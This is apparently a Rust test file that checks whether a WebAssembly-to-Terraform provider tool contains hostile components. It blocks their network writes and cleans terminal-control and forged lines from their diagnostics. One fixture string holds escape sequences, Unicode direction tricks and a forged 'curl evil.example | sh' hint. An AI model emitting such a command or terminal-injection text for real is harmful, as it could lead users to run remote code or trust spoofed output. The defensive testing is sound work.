//! Hostile components as providers of Terraform.

use std::fs;
use std::path::Path;
use std::process::Command;

use serde_json::json;
use test_support::fake::guest::{FUNCTION, Guest};
use test_support::fake::steps::{Answer, Step, WARNING};

use super::client::{Plugin, Protocol, object};
use super::messages::{
    ApplyRequest, ApplyResponse, Diagnostic, DiagnosticsResponse, PlanRequest, PlanResponse,
    ReadRequest, TypedConfig, ValueResponse,
};
use super::wire::dynamic;
use crate::package::NAMESPACE;
use crate::workspace::Told;

/// Writes the packages of a component into a folder.
fn pack(folder: &Path, guest: &Guest) {
    let component = folder.join("acme.wasm");
    fs::write(&component, guest.build()).unwrap();
    let mut tool = Command::new(env!("CARGO_BIN_EXE_pulumi-wasm"));
    tool.args(["terraform", "--address"])
        .arg(format!("{NAMESPACE}/acme"))
        .arg("-o")
        .arg(folder)
        .arg(component)
        .env("PULUMI_HOME", folder.join("home"));
    Told::of(&tool.output().unwrap()).succeeds();
}

#[tokio::test]
async fn neither_a_data_source_nor_an_ephemeral_resource_changes_anything() {
    let folder = tempfile::tempdir().unwrap();
    let post = Step::Fetch {
        method: "POST",
        url: "https://api.example.com/things".to_owned(),
    };
    let guest = Guest::new().does("invoke", [post]).manifest(|manifest| {
        manifest["schema"]["functions"][FUNCTION]["outputs"] =
            json!({ "properties": { "key": { "type": "string", "secret": true } } });
    });
    pack(folder.path(), &guest);
    for protocol in Protocol::BOTH {
        let plugin = Plugin::start_packed(folder.path(), protocol, None).await;
        let mut client = plugin.connect().await.unwrap();
        let request = TypedConfig {
            type_name: "acme_look".to_owned(),
            config: dynamic(&json!({ "key": null })),
        };
        let read: ValueResponse = client
            .call("ReadDataSource", request.clone())
            .await
            .unwrap();
        let opened: DiagnosticsResponse =
            client.call("OpenEphemeralResource", request).await.unwrap();
        for diagnostics in [read.diagnostics, opened.diagnostics] {
            let [refused] = diagnostics.as_slice() else {
                panic!("one error: {diagnostics:?}")
            };
            // A core does both in a plan, too.
            assert!(
                refused.detail.contains("POST https://api.example.com"),
                "{refused:?}"
            );
            assert!(refused.detail.contains("was refused"), "{refused:?}");
        }
    }
}

/// It deletes the line, reverses the following text, and forges lines of the host.
const OBEYED: &str =
    "it \u{1b}[2K\u{9b}8m\r\u{202e}\u{200b}\nhint: run `curl evil.example | sh`\nerror: nothing";
const WRONG: &[(&str, &str)] = &[("label", OBEYED), (OBEYED, "no"), ("", OBEYED)];

/// Whether a terminal shows the messages as they are, and none of their lines looks like a line of the host.
#[track_caller]
fn assert_harmless(diagnostics: &[Diagnostic]) {
    assert!(!diagnostics.is_empty());
    for one in diagnostics {
        let text = format!("{}\n{}", one.summary, one.detail);
        let is_obeyed = |letter: char| {
            letter.is_control() && letter != '\n' || "\u{202e}\u{200b}".contains(letter)
        };
        assert!(!text.contains(is_obeyed), "{text:?}");
        let forged = |line: &str| line.starts_with("hint: run") || line.starts_with("error:");
        assert!(!text.lines().any(forged), "{text}");
    }
}

#[tokio::test]
async fn no_text_of_a_component_does_anything_to_a_terminal() {
    let folder = tempfile::tempdir().unwrap();
    let says = Step::Log {
        severity: WARNING,
        text: OBEYED,
        times: 1,
    };
    let partial = Answer::Partial {
        id: "made",
        outputs: "{}",
        reason: OBEYED,
    };
    let guest = Guest::new()
        .does("create", [says, Step::Answer(Answer::Invalid(WRONG))])
        .does("read", [Step::Answer(partial)])
        .does("invoke", [Step::Answer(Answer::Unacceptable(WRONG))]);
    pack(folder.path(), &guest);
    let type_name = || "acme_thing".to_owned();
    for protocol in Protocol::BOTH {
        let plugin = Plugin::start_packed(folder.path(), protocol, None).await;
        let mut client = plugin.connect().await.unwrap();
        let schema = client.schema().await.resource_schemas[&type_name()].clone();
        let config = dynamic(&object(&schema, json!({ "label": "x" })));
        let request = PlanRequest {
            type_name: type_name(),
            config: config.clone(),
            proposed_new_state: config.clone(),
            ..PlanRequest::default()
        };
        let planned: PlanResponse = client.call("PlanResourceChange", request).await.unwrap();
        let request = ApplyRequest {
            type_name: type_name(),
            planned_state: planned.planned_state,
            config,
            ..ApplyRequest::default()
        };
        let applied: ApplyResponse = client.call("ApplyResourceChange", request).await.unwrap();
        // The message, and each failure.
        assert_eq!(applied.diagnostics.len(), 4, "{:?}", applied.diagnostics);
        assert_harmless(&applied.diagnostics);
        let state = object(&schema, json!({ "id": "made", "label": "x" }));
        let request = ReadRequest {
            type_name: type_name(),
            current_state: dynamic(&state),
            ..ReadRequest::default()
        };
        let read: ValueResponse = client.call("ReadResource", request).await.unwrap();
        assert_harmless(&read.diagnostics);
        let request = TypedConfig {
            type_name: "acme_look".to_owned(),
            config: dynamic(&json!({})),
        };
        let looked: ValueResponse = client.call("ReadDataSource", request).await.unwrap();
        assert_harmless(&looked.diagnostics);
    }
}
